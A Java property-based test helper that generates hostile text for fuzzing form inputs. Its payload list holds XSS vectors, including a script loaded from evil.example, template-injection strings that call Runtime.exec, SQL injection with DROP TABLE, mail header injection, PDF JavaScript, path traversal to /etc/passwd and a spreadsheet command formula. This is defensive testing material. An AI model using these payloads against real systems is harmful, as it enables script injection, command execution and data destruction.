package org.kcyj.support;

import java.util.List;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Text an attacker, a careless paste or a broken client may put into any field: markup and script
 * payloads, template and SQL syntax, PDF operators, control, bidi and zero-width characters, lone
 * surrogates, emoji and other astral characters, Chinese, whitespace around it and long repetitions.
 */
public final class HostileText {
    /** Payloads that matter where form values end up: HTML, attributes, scripts, URLs, templates, SQL, PDF, mail. */
    public static final List<String> PAYLOADS = List.of(
            "<script>alert('x')</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<a href=\"javascript:alert(1)\">点击</a>",
            "javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
            "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)",
            "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<!--", "-->", "]]>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">", "<style>*{display:none}</style>", "<b>粗体</b>",
            "&lt;script&gt;", "&amp;", "&#x3C;script&#x3E;", "&#60;", "&", "<", ">", "\"", "'", "`", "\\",
            "${7*7}", "#{7*7}", "@{/x}", "[[${7*7}]]", "[(${7*7})]", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
            "{{7*7}}", "' OR '1'='1", "'; DROP TABLE app.proposal; --", "1; SELECT pg_sleep(10)", "\" OR \"\"=\"",
            "%27%20OR%201=1", "%00", "%0d%0aBcc: x@evil.example", "\r\nBcc: x@evil.example",
            "/JavaScript /JS (app.alert(1))", "<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", "(", ")",
            "%PDF-1.7", "BT /F1 12 Tf (x) Tj ET", "\\) Tj", "../../etc/passwd", "=cmd|' /C calc'!A0", "+SUM(1)",
            "null", "undefined", "NaN", "true", "false", "0", "-1");
    public static final List<String> CONTROLS = List.of("\u0000", "\u0001", "\u0007", "\b", "\t", "\n", "\u000B",
            "\f", "\r", "\r\n", "\u001B", "\u001B[31m", "\u001F", "\u007F", "\u0080", "\u0085", "\u009B", "\u009F");
    /** Bidi overrides and isolates, zero-width and other invisible formatting characters, line separators. */
    public static final List<String> INVISIBLE = List.of("\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066",
            "\u2067", "\u2068", "\u2069", "\u200B", "\u200C", "\u200D", "\u200E", "\u200F", "\u2060", "\uFEFF",
            "\u061C", "\u00AD", "\u2028", "\u2029", "\uFFF9", "\uFFFE", "\uFFFF", "e\u0301", "\u0301", "\uFE0F");
    public static final List<String> SURROGATES = List.of("\uD800", "\uDBFF", "\uDC00", "\uDFFF", "\uDC00\uD800", "\uD83D");
    public static final List<String> ASTRAL = List.of("😀", "👨‍👩‍👧", "🇨🇳", "𠀀", "𪚥", "𝕏", "🀄", "👍🏽");
    public static final List<String> SPACES = List.of(" ", "  ", "\t", "\u3000", "\u00A0", "\u2003", "\n", "\r\n", "\u0000");
    public static final List<String> CHINESE = List.of("高性能稀土永磁材料", "宁波甬江", "项目负责人",
            "，。；：“”（）《》！？", "￥１２３", "繁體字測試", "ㄅㄆ", "〇一二三");

    private HostileText() {
    }

    /** One piece of hostile text. */
    public static Arbitrary<String> pieces() {
        return Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.of(PAYLOADS)),
                Tuple.of(3, Arbitraries.of(CONTROLS)),
                Tuple.of(3, Arbitraries.of(INVISIBLE)),
                Tuple.of(2, Arbitraries.of(SURROGATES)),
                Tuple.of(3, Arbitraries.of(ASTRAL)),
                Tuple.of(2, Arbitraries.of(SPACES)),
                Tuple.of(4, Arbitraries.of(CHINESE)),
                Tuple.of(4, Arbitraries.strings().withCharRange('\u4e00', '\u9fa5').ofMinLength(1).ofMaxLength(30)),
                Tuple.of(3, Arbitraries.strings().ascii().ofMinLength(1).ofMaxLength(20)));
    }

    /**
     * Hostile text of up to a few thousand characters: pieces joined, with whitespace around them, one
     * piece repeated, any UTF-16 string (lone surrogates included) and the blank ones.
     */
    public static Arbitrary<String> text() {
        Arbitrary<String> piece = pieces();
        Arbitrary<String> composed = piece.list().ofMinSize(1).ofMaxSize(10).map(parts -> String.join("", parts));
        Arbitrary<String> padded = Combinators.combine(Arbitraries.of(SPACES).list().ofMaxSize(3), composed,
                Arbitraries.of(SPACES).list().ofMaxSize(3)).as((before, text, after) ->
                String.join("", before) + text + String.join("", after));
        Arbitrary<String> repeated = Combinators.combine(piece, Arbitraries.integers().between(2, 600))
                .as((p, n) -> p.repeat(n));
        return Arbitraries.frequencyOf(
                Tuple.of(6, composed),
                Tuple.of(3, padded),
                Tuple.of(2, repeated),
                Tuple.of(2, Arbitraries.strings().all().ofMaxLength(200)),
                Tuple.of(1, Arbitraries.of("", " ", "\t\n", "\u0000", "\u0000\u0001 \u001F", "\u3000", "\u200B")));
    }
}
